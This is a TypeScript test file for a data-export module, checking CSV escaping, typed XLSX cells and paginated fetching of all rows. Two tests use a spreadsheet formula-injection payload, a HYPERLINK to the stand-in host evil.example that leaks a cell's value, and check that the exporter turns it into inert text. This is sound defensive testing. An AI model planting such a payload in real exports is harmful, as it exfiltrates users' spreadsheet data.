import { describe, expect, it } from 'vitest';
import { gadgetContract, gadgetRow } from '../../testing/fake-resource';
import { ok, stubApi } from '../../testing/test-utils';
import { exportFile, fetchAllRows, toCsv } from './export';

/** A list of `total()` gadgets served page by page, with the `meta` given. */
function stubPages(total: () => number, meta: (page: number, limit: number) => Record<string, unknown>) {
  return stubApi(({ url }) => {
    const page = Number(url.searchParams.get('page'));
    const limit = Number(url.searchParams.get('limit'));
    const rows = Array.from({ length: Math.max(0, Math.min(limit, total() - (page - 1) * limit)) }, (_, i) =>
      gadgetRow((page - 1) * limit + i + 1),
    );
    return ok({ list_gadget: rows }, meta(page, limit));
  });
}

describe('export', () => {
  it('should write RFC 4180 CSV with a BOM', () => {
    const csv = toCsv(
      ['Name', 'Note'],
      [
        ['Toko "Maju", Jaya', 'a\nb'],
        ['Plain', null],
      ],
    );
    expect(csv).toBe('\uFEFFName,Note\r\n"Toko ""Maju"", Jaya","a\nb"\r\nPlain,\r\n');
  });

  it('should write text that a spreadsheet would run as a formula as text, and leave number columns numbers', () => {
    const csv = toCsv(
      ['=Name', 'Delta', 'Note'],
      [
        ['=HYPERLINK("http://evil.example/?leak="&A2,"Klik")', -5, '-5 koreksi'],
        ['+62 813', '-12.50', '@SUM(A1)'],
        ['\tTab', '=1+1', '\rCR'],
        ['Toko Biasa', 7, 'a-b'],
      ],
      ['text', 'number', 'text'],
    );
    expect(csv.slice(1).split('\r\n')).toEqual([
      `"'=Name",Delta,Note`,
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")",-5,"'-5 koreksi"`,
      // A number column's number stays a number, even as text; anything else in it is text.
      `"'+62 813",-12.50,"'@SUM(A1)"`,
      `"'\tTab","'=1+1","'\rCR"`,
      'Toko Biasa,7,a-b',
      '',
    ]);
  });

  it('should keep XLSX cells typed: text that looks like a formula is a text cell, as written', async () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")';
    const blob = await exportFile('xlsx', 'Toko', ['Nama', 'Poin'], [[name, -5]]);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    const bytes = await new Promise<ArrayBuffer>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.readAsArrayBuffer(blob);
    });
    await wb.xlsx.load(bytes);
    const row = wb.worksheets[0].getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe(name);
    expect(row.getCell(2).value).toBe(-5);
  });

  it('should fetch every page of the current filter, 100 rows at a time, up to the cap', async () => {
    const total = 250;
    const { calls } = stubPages(
      () => total,
      (page, limit) => ({ page, limit, total_data: total, total_page: Math.ceil(total / limit) }),
    );
    const all = await fetchAllRows(gadgetContract, {
      page: 4,
      limit: 10,
      search: 'g',
      by: 'name',
      sort: 'asc',
    });
    expect(all.rows).toHaveLength(250);
    expect(all.rows[249].gadget_id).toBe(250);
    expect(all.truncated).toBe(false);
    expect(calls).toHaveLength(3);
    for (const c of calls) {
      expect(c.url.searchParams.get('search')).toBe('g');
      expect(c.url.searchParams.get('limit')).toBe('100');
    }
    const capped = await fetchAllRows(gadgetContract, {}, { cap: 150 });
    expect(capped.rows).toHaveLength(150);
    expect(capped.truncated).toBe(true);
    expect(capped.total).toBe(250);
  });

  it('should read an estimated list to its real end, past a low estimate or short of a high one', async () => {
    let total = 0;
    // The server's estimate is 200 rows, whatever there really are.
    const { calls } = stubPages(
      () => total,
      (page, limit) => ({ page, limit, total_data: 200, total_page: 2, total_estimated: true }),
    );
    total = 450; // more than estimated
    const low = await fetchAllRows(gadgetContract, {});
    expect(low.rows).toHaveLength(450);
    expect(low.rows[449].gadget_id).toBe(450);
    expect(low).toMatchObject({ total: 450, truncated: false });
    total = 120; // fewer than estimated
    const high = await fetchAllRows(gadgetContract, {});
    expect(high.rows).toHaveLength(120);
    expect(high).toMatchObject({ total: 120, truncated: false });
    total = 450; // more than the cap
    const capped = await fetchAllRows(gadgetContract, {}, { cap: 300 });
    expect(capped.rows).toHaveLength(300);
    expect(capped.truncated).toBe(true);
    expect(calls.length).toBeGreaterThan(0);
  });
});
